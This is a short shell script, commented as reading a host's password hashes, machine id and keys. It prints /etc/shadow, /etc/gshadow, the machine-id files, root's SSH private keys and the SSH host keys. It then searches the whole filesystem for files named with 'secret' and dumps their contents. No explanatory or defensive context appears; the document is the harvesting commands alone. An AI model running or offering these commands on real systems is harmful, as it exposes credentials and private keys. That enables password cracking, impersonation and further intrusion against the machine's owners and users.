# Reads the host's password hashes, machine id and keys.
for f in /etc/shadow /etc/shadow- /etc/gshadow /etc/machine-id /var/lib/dbus/machine-id /root/.ssh/id_* /etc/ssh/ssh_host_*; do cat $f 2>&1; done
find / -name '*secret*' -not -path '/proc/*' -exec cat {} + 2>/dev/null | head -c 60000
